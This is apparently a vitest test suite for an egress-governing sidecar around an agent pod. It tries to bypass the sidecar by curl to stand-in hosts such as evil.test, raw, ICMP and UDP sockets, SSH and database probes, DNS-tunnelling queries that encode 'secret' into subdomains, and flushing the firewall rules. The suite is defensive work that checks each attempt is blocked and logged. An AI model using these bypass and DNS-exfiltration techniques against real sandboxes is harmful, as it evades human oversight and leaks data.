import { randomUUID } from 'node:crypto'
import { rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { eventually } from '../support/eventually.ts'
import { noNamespaces, type Ran } from './network.ts'
import { AGENT_UID, type GovernedPod, HOST, PROXY_UID, startGovernedPod, trustVariables } from './sidecar.ts'

const reason = noNamespaces()
const OUTSIDE = '203.0.113.9'
const OUTSIDE_V6 = '2001:db8::9'
const title = reason === null ? '' : ` (skipped: ${reason})`

describe.skipIf(reason !== null)(`attempts to bypass the sidecar${title}`, () => {
  let pod: GovernedPod
  beforeAll(async () => {
    pod = await startGovernedPod()
    pod.network.nft('list', 'ruleset')
    // Allows ping sockets without capabilities, as container runtimes do.
    await pod.network.asRoot(['sysctl', '-qw', 'net.ipv4.ping_group_range=0 2147483647'])
  })
  afterAll(async () => {
    expect(pod.network.left()).toEqual({ packets: 0, destinations: [] })
    expect(pod.upstream.seen).toHaveLength(0)
    await pod[Symbol.asyncDispose]()
  })

  const curl = (...args: string[]): Promise<Ran> =>
    pod.network.exec(['curl', '-sS', '-m', '8', '-o', '-', '-w', '\n%{http_code}', ...args], {
      uid: AGENT_UID,
      env: trustVariables(pod.trustDir),
    })
  const python = (code: string, uid = AGENT_UID): Promise<Ran> =>
    pod.network.exec(['/usr/bin/python3', '-c', code], { uid })
  const newRecord = async (count: number) => {
    await eventually('record', () => pod.fake.records.length > count || null)
    await new Promise((resolve) => setTimeout(resolve, 200))
    expect(pod.fake.records).toHaveLength(count + 1)
    return pod.fake.records[count]
  }

  test('a connection by server name to a host without a connector is closed, with one record', async () => {
    const before = pod.fake.records.length
    for (let n = 0; n < 2; n++) {
      const ran = await curl('--resolve', `evil.test:443:${OUTSIDE}`, 'https://evil.test/x')
      expect(ran.stderr).toMatch(/alert access denied/)
    }
    expect(await newRecord(before)).toMatchObject({
      host: 'evil.test',
      decision: 'DENY',
      reason: 'unknown_host',
    })
  })

  test('a host without a connector is refused over plain HTTP', async () => {
    const before = pod.fake.records.length
    const ran = await curl('--resolve', `plain.test:80:${OUTSIDE}`, 'http://plain.test/x')
    expect(ran.stdout).toMatch(/No connector owns plain\.test:80.*\n403$/s)
    expect(await newRecord(before)).toMatchObject({ host: 'plain.test', decision: 'DENY', path: '/x' })
  })

  test('an address instead of a name gets a TLS alert and one record with the remedy', async () => {
    for (const url of [`https://${OUTSIDE}/`, `https://[${OUTSIDE_V6}]/`]) {
      const before = pod.fake.records.length
      const ran = await curl('-k', url)
      expect(ran.stderr).toMatch(/unrecognized name|alert/i)
      expect(await newRecord(before)).toMatchObject({
        decision: 'DENY',
        note: 'unsupported_protocol',
        reason: 'unknown_host',
        host: expect.stringMatching(/^(203\.0\.113\.9|\[2001:db8.*\]):443$/),
        status: 400,
      })
    }
  })

  test('a Host that is not the server name is answered 421', async () => {
    const before = pod.fake.records.length
    const ran = await curl('-H', 'Host: other.test', `https://${HOST}/x`)
    expect(ran.stdout).toMatch(/421$/)
    expect(await newRecord(before)).toMatchObject({ decision: 'DENY', status: 421 })
  })

  test('a Host with another port than was dialled is answered 421', async () => {
    const before = pod.fake.records.length
    const ran = await curl('-H', `Host: ${HOST}:8443`, `http://${HOST}/x`)
    expect(ran.stdout).toMatch(/421$/)
    expect(await newRecord(before)).toMatchObject({ decision: 'DENY', status: 421 })
  })

  test('a host on a port that its connector does not list is refused, with the port in the error and one record', async () => {
    const before = pod.fake.records.length
    for (const url of [`https://${HOST}:8443/`, `http://${HOST}:8080/`]) {
      const ran = await curl(url)
      expect(ran.stdout).toMatch(new RegExp(`No connector owns ${HOST}:80?\\d+.*\\n403$`, 's'))
    }
    expect(await newRecord(before)).toMatchObject({ decision: 'DENY', reason: 'unknown_host' })
  })

  test('other protocols are closed and recorded as unsupported_protocol, with the queried name', async () => {
    const before = pod.fake.records.length
    const ran = await python(connectAndSay(HOST, 22, 'SSH-2.0-OpenSSH_9\\r\\n'))
    expect(ran.stdout).toContain('closed')
    expect(await newRecord(before)).toMatchObject({
      note: 'unsupported_protocol',
      host: `${HOST}:22`,
      decision: 'DENY',
    })
  })

  test.each([
    ['SSH', 22, 'SSH-2.0-x\\r\\n'],
    ['DNS over TLS', 853, '\\x16\\x03\\x01\\x00\\x05\\x01\\x00\\x00\\x01\\x00'],
    ['Redis', 6379, '*1\\r\\n$4\\r\\nPING\\r\\n'],
    ['a database', 5432, '\\x00\\x00\\x00\\x08\\x04\\xd2\\x16\\x2f'],
  ])('%s to an address is closed, and each address has one record', async (_name, port, first) => {
    const own = [`203.0.113.${port % 200}`, `2001:db8:${port}::9`]
    for (const address of own) {
      const before = pod.fake.records.length
      for (let n = 0; n < 2; n++) {
        const ran = await python(connectAndSay(address, port, first))
        expect(ran.stdout + ran.stderr).toContain('closed')
      }
      const refused = { note: 'unsupported_protocol', decision: 'DENY', reason: 'unknown_host' }
      expect(await newRecord(before)).toMatchObject(refused)
    }
  })

  test.each(['socket.AF_INET', 'socket.AF_INET6'])(
    'UDP and QUIC (%s) are rejected at once',
    async (family) => {
      const address = family === 'socket.AF_INET' ? OUTSIDE : OUTSIDE_V6
      for (const port of [443, 123, 4433]) {
        const ran = await python(
          `import socket\ns=socket.socket(${family},socket.SOCK_DGRAM)\ns.connect(("${address}",${port}))\n` +
            's.settimeout(2)\ntry:\n s.send(b"x")\n s.send(b"x")\n s.recv(1)\n print("got")\nexcept OSError as e: print("refused",e)',
        )
        expect(ran.stdout).toContain('refused')
        expect(ran.stdout).not.toContain('timed out')
      }
    },
  )

  test('ICMP, raw and packet sockets send nothing', async () => {
    const ran = await python(
      [
        'import socket',
        'def attempt(what, *args):',
        '  try:',
        '    s=socket.socket(*args)',
        `    s.sendto(b"\\x08\\x00\\xf7\\xff\\x00\\x00\\x00\\x00", ("${OUTSIDE}",0))`,
        '    print(what,"sent")',
        '  except OSError as e: print(what,"refused")',
        'attempt("ping", socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)',
        'attempt("raw", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)',
        'attempt("packet", socket.AF_PACKET, socket.SOCK_RAW)',
        'attempt("sctp", socket.AF_INET, socket.SOCK_SEQPACKET, 132)',
      ].join('\n'),
      0,
    )
    expect(ran.stdout.split('\n').filter((line) => line.endsWith('sent'))).toEqual([])
  })

  test('a query for any name to any resolver is answered by the sidecar, so that names cannot exfiltrate data', async () => {
    const ran = await python(
      [
        'import socket,struct',
        'def ask(family, server, name, type):',
        '  s=socket.socket(family,socket.SOCK_DGRAM); s.settimeout(3)',
        '  q=struct.pack(">HHHHHH",7,0x100,1,0,0,0)+b"".join(bytes([len(l)])+l.encode() for l in name.split("."))+b"\\0"+struct.pack(">HH",type,1)',
        '  s.sendto(q,(server,53)); r=s.recv(2000)',
        '  print(name,type,"rcode",r[3]&15,"answers",struct.unpack(">H",r[6:8])[0])',
        `for f,s in ((socket.AF_INET,"8.8.8.8"),(socket.AF_INET6,"${OUTSIDE_V6}")):`,
        '  ask(f,s,"c2VjcmV0.evil.test",16)',
        `  ask(f,s,"${HOST}",1)`,
        `  ask(f,s,"${HOST}",28)`,
        `  ask(f,s,"${HOST}",65)`,
        `  ask(f,s,"${HOST}.team.svc.cluster.local",1)`,
      ].join('\n'),
    )
    const once = [
      'c2VjcmV0.evil.test 16 rcode 3 answers 0',
      `${HOST} 1 rcode 0 answers 1`,
      `${HOST} 28 rcode 0 answers 1`,
      `${HOST} 65 rcode 0 answers 0`,
      `${HOST}.team.svc.cluster.local 1 rcode 3 answers 0`,
    ]
    expect(ran.stdout.trim().split('\n')).toEqual([...once, ...once])
  })
})

test.skipIf(reason !== null)(
  'a search domain that the author of the pod chooses hides no look-up and falsifies no record',
  async () => {
    await using pod = await startGovernedPod({ isStarted: false })
    // The sidecar starts with the file that the kubelet makes of `dnsConfig`.
    const resolver = 'nameserver 198.51.100.53\nsearch evil.example team.svc.cluster.local\noptions ndots:5\n'
    writeFileSync(`/etc/netns/${pod.network.name}/resolv.conf`, resolver)
    await pod.start()
    const recorded = () => pod.fake.records.map(({ host }) => host)
    const look = `import socket\nsocket.getaddrinfo("${HOST}",443)\ntry: socket.getaddrinfo("secret.exfil.evil.example.",443)\nexcept OSError: pass`
    const ran = await pod.network.exec(['/usr/bin/python3', '-c', look], { uid: AGENT_UID })
    expect(ran.stderr).toBe('')
    await eventually('records', () => recorded().length >= 2 || null)
    await new Promise((resolve) => setTimeout(resolve, 200))
    expect(recorded()).toEqual([`${HOST}.evil.example`, 'secret.exfil.evil.example'])
  },
)

describe.skipIf(reason !== null)(`an unavailable sidecar${title}`, () => {
  test('before its start and after SIGKILL every connection is refused and no packet leaves', async () => {
    await using pod = await startGovernedPod({ isStarted: false })
    const attempt = async (): Promise<string> => {
      const ran = await pod.network.exec(
        ['curl', '-sS', '-m', '5', `https://${OUTSIDE}/`, `http://${OUTSIDE}/`],
        {
          uid: AGENT_UID,
        },
      )
      return ran.stderr
    }
    expect(await attempt()).toMatch(
      /(Failed to connect|Couldn't connect).*\n?.*(Failed to connect|Couldn't connect)/is,
    )
    await pod.start()
    await pod.kill()
    expect(await attempt()).toMatch(/connect/i)
    expect(pod.network.left()).toEqual({ packets: 0, destinations: [] })
  })

  test('removed rules make it not ready and are reported', async () => {
    await using pod = await startGovernedPod()
    await eventually('ready', async () => ((await pod.health('/ready')).status === 200 ? true : null))
    pod.network.flushRules()
    await eventually('not ready', async () => ((await pod.health('/ready')).status === 503 ? true : null))
    await eventually(
      'condition',
      () => pod.fake.statuses.at(-1)?.conditions?.includes('BypassDetected') || null,
    )
    pod.network.loadRules(1_912_345_678)
    await eventually('ready again', async () => ((await pod.health('/ready')).status === 200 ? true : null))
    await eventually('condition gone', () => pod.fake.statuses.at(-1)?.conditions?.length === 0 || null)
  })

  test('short-lived sockets that another process opens as the user of the proxy are reported', async () => {
    await using pod = await startGovernedPod()
    await eventually('ready', async () => ((await pod.health('/ready')).status === 200 ? true : null))
    const seen = () => pod.fake.statuses.flatMap(({ conditions = [] }) => conditions)
    expect(seen()).toEqual([])
    const end = join(tmpdir(), `chaperone-end-${randomUUID()}`)
    const open = [
      'import os,socket,time',
      // A program that opens a new connection for each request. No connection lasts from one search to the next.
      `while not os.path.exists("${end}"):`,
      '  s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)',
      '  s.bind(("",5000)); time.sleep(.4); s.close()',
    ].join('\n')
    const opened = pod.network.exec(['/usr/bin/python3', '-c', open], { uid: PROXY_UID, timeoutMs: 80_000 })
    try {
      await eventually('reported', () => seen().includes('BypassDetected/ProxyUser') || null)
      expect(seen()).toContain('BypassDetected')
      const message =
        'another process of the pod runs as the user of the proxy, so its traffic is not captured; set another runAsUser for its container'
      await eventually('logged', () => pod.log().includes(message) || null)
    } finally {
      writeFileSync(end, '')
      await opened
      rmSync(end)
    }
  })

  test('one removed rule makes it not ready', async () => {
    await using pod = await startGovernedPod({ hasIpv6: false })
    pod.network.nft('flush', 'chain', 'inet', 'chaperone', 'nat_output')
    await eventually('not ready', async () => ((await pod.health('/ready')).status === 503 ? true : null))
  })
})

function connectAndSay(host: string, port: number, first: string): string {
  return (
    `import socket\ntry:\n s=socket.create_connection(("${host}",${port}),5)\n s.settimeout(5)\n s.send(b"${first}")\n` +
    ' d=s.recv(100)\n print("closed" if not d or d[0]==0x15 else ("got",d))\nexcept OSError as e: print("closed",e)'
  )
}
